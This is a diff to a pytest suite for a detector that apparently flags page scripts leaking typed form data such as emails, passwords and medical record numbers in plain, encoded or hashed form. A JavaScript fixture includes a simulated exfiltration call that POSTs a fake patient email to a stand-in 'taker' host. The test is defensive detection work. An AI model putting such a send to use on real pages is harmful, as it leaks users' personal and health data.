@@ -6,6 +6,7 @@ from urllib.parse import quote
 
 import pytest
 
+from scriptward.knowledge.field_kinds import kind_of_field
 from scriptward.sources import beacons
 from scriptward.vocabulary.sensor import Batch
 from scriptward.vocabulary.words import PageClass
@@ -21,12 +22,16 @@ TYPED = {
 
 
 @pytest.fixture
-def page(live, site, built):
-    site.bodies["sensor.js"] = (built / "sensor.typed.js").read_bytes()
+def page(live):
     page = live("typed.html")
     for name, text in TYPED.items():
         page.locator(f"[name={name}]").press_sequentially(text)
     return page
+
+
+def kind(field: str) -> str:
+    """What the collector takes the field's words for."""
+    return str(kind_of_field(type="", name=field, autocomplete="", label=""))
 
 
 def told(batch: Batch) -> dict[str, set[tuple[str, ...]]]:
@@ -34,7 +39,7 @@ def told(batch: Batch) -> dict[str, set[tuple[str, ...]]]:
     out: dict[str, set[tuple[str, ...]]] = {}
     for seen in batch.behaviours:
         rows = out.setdefault(seen.target.rsplit("/", 1)[-1], set())
-        rows |= {(d.kind, d.where, d.certainty, *d.encoding) for d in seen.data}
+        rows |= {(kind(d.field), d.where, d.certainty, *d.encoding) for d in seen.data}
     return out
 
 
@@ -51,17 +56,17 @@ def test_each_send_says_the_kinds_that_were_in_it(page, site):
 
     assert found["plain"] == {
         (kind, "body", "observed_plain")
-        for kind in ("email", "name", "mrn", "password", "free_text")
+        for kind in ("email", "name", "mrn", "password", "appointment")
     }
     assert found["query"] == {("email", "url-query", "observed_decoded", "percent")}
     assert found["nested"] == {
         (kind, "body", "observed_decoded", "base64")
-        for kind in ("email", "name", "mrn", "password", "free_text")
+        for kind in ("email", "name", "mrn", "password", "appointment")
     }
     assert found["hashed"] == {("email", "body", "observed_hash_match", "sha256")}
     assert found["header"] == {
         ("mrn", "header", "observed_plain"),
-        ("free_text", "body", "observed_decoded", "percent"),
+        ("appointment", "body", "observed_decoded", "percent"),
     }
     assert found["asked"] == {("password", "body", "observed_plain")}
     assert found["innocent"] == set()
@@ -139,9 +144,14 @@ POISONED = """() => {
     String.prototype[name] = function (...args) { heard++; return native.apply(this, args); };
     return () => (String.prototype[name] = native);
   });
+  const { exec } = RegExp.prototype;
+  const before = /(m)i/.exec("mi") && RegExp.$1;
+  RegExp.prototype.exec = function (...args) { heard++; return exec.apply(this, args); };
   Object.defineProperty(Array.prototype, 0, { set() { heard++; }, configurable: true });
   fetch(taker.url("x"), { method: "POST", body: "e=mira.holt@patients.example" });
   delete Array.prototype[0];
+  if (RegExp.$1 !== before || RegExp.input !== "mi") heard++;
+  RegExp.prototype.exec = exec;
   for (const restore of kept) restore();
   return heard;
 }"""
